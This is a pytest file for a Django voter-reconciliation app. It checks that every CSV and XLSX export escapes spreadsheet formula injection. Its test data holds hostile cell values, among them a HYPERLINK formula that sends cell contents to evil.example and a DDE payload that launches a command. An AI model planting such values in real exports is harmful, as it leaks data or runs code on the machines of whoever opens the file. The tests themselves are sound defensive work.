"""Formula injection (SECURITY.md check 17): in every CSV and XLSX the app hands out, a cell
that a spreadsheet would run (= + - @ tab CR NUL first) starts with an apostrophe instead.

Names in the KPU lists and the roster are whatever the source file held, so the hostile values
go in as inmates' and voters' names, and every export is read back with csv / openpyxl."""

import csv
import datetime as dt
import io

import openpyxl
import pytest
from django.urls import reverse
from pages_letters import make_inmate, make_list

from voters.core.spreadsheets import FORMULA_LEADS
from voters.inmates import dukcapil
from voters.models import ImportBatch
from voters.reconciliation.exports import EXPORTS
from voters.reconciliation.services import reconcile

pytestmark = pytest.mark.django_db

HOSTILE = ['=HYPERLINK("http://evil.example/?d="&A1,"klik")', "+1", "-2", "@SUM(1)",
           "\tTAB", "\rCR", "=cmd|' /C calc'!A0"]
READ_BACK = {name.replace("\r", "\n") for name in HOSTILE}


def cells_of(data, fmt):
    """Every text cell; a CR comes back as LF from XML (line-end normalisation), so both are
    read as LF."""
    if fmt == "csv":
        rows = csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""))
        cells = [cell for row in rows for cell in row]
    else:
        workbook = openpyxl.load_workbook(io.BytesIO(data), read_only=True)
        cells = [cell for sheet in workbook for row in sheet.iter_rows(values_only=True)
                 for cell in row if isinstance(cell, str)]
    return [cell.replace("\r", "\n") for cell in cells]


def unsafe(cells):
    return [cell for cell in cells if cell.startswith((*FORMULA_LEADS, "\n"))]


@pytest.fixture
def hostile_world(blora, tps901, election):
    inmates = [
        make_inmate(blora, f"H.{n}", name, birth=dt.date(1980 + n, 3, 4), serial=60 + n,
                    masuk=dt.date(2024, 1, 10), bebas=dt.date(2024, 11, 20) if n == 0 else None)
        for n, name in enumerate(HOSTILE)
    ]
    # On the DPT: two of them (one to be released: KELUAR), and strangers with hostile names.
    make_list(tps901, "DPT", [
        (inmates[0].nama, inmates[0].nik, inmates[0].tanggal_lahir, "L"),
        (inmates[1].nama, inmates[1].nik, inmates[1].tanggal_lahir, "L"),
        *[(f"{name}", f"33160104048{n:01d}0{n:04d}", dt.date(1970, 4, 4), "L")
          for n, name in enumerate(HOSTILE[:5])],
    ])
    return reconcile(election=election, facility=blora, today=dt.date(2024, 11, 15))


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
@pytest.mark.parametrize("kind", list(EXPORTS))
def test_every_reconciliation_export_escapes_formula_cells(kind, fmt, hostile_world, kpu,
                                                           client_for):
    response = client_for(kpu).get(
        reverse("reconciliation_export", args=[hostile_world.pk, kind, fmt]))
    assert response.status_code == 200
    cells = cells_of(b"".join(response.streaming_content), fmt)
    assert unsafe(cells) == []
    escaped = {cell[1:] for cell in cells if cell.startswith("'")}
    if kind == "rekonsiliasi":  # every person is a row of this one
        assert escaped >= READ_BACK


def test_the_dukcapil_request_file_escapes_formula_cells(hostile_world, blora, operator,
                                                         client_for):
    from voters.models import Inmate

    request = dukcapil.create_request(
        facility=blora, inmate_ids=list(Inmate.objects.values_list("pk", flat=True)),
        user=operator)
    response = client_for(operator).get(reverse("dukcapil_request_download", args=[request.pk]))
    cells = cells_of(b"".join(response.streaming_content), "xlsx")
    assert unsafe(cells) == [] and {f"'{name}" for name in READ_BACK} <= set(cells)


def test_the_import_error_report_escapes_formula_cells(blora, operator, client_for):
    batch = ImportBatch.objects.create(
        kind="inmates", facility=blora, file_name="sdp.csv", status="failed",
        row_errors=[{"row": 2, "column": name, "message": name} for name in HOSTILE])
    response = client_for(operator).get(reverse("roster_import_errors", args=[batch.pk]))
    cells = cells_of(response.content, "csv")
    assert unsafe(cells) == [] and f"'{HOSTILE[0]}" in cells


def test_the_export_command_escapes_formula_cells_too(hostile_world, tmp_path):
    from django.core.management import call_command

    for fmt in ("csv", "xlsx"):
        out = tmp_path / f"hasil.{fmt}"
        call_command("export_reconciliation", "--election", "PILKADA2024", "--facility",
                     "RUTAN-BLORA", "--format", fmt, "-o", str(out), "--today", "2024-11-15",
                     stdout=io.StringIO())
        assert unsafe(cells_of(out.read_bytes(), fmt)) == []
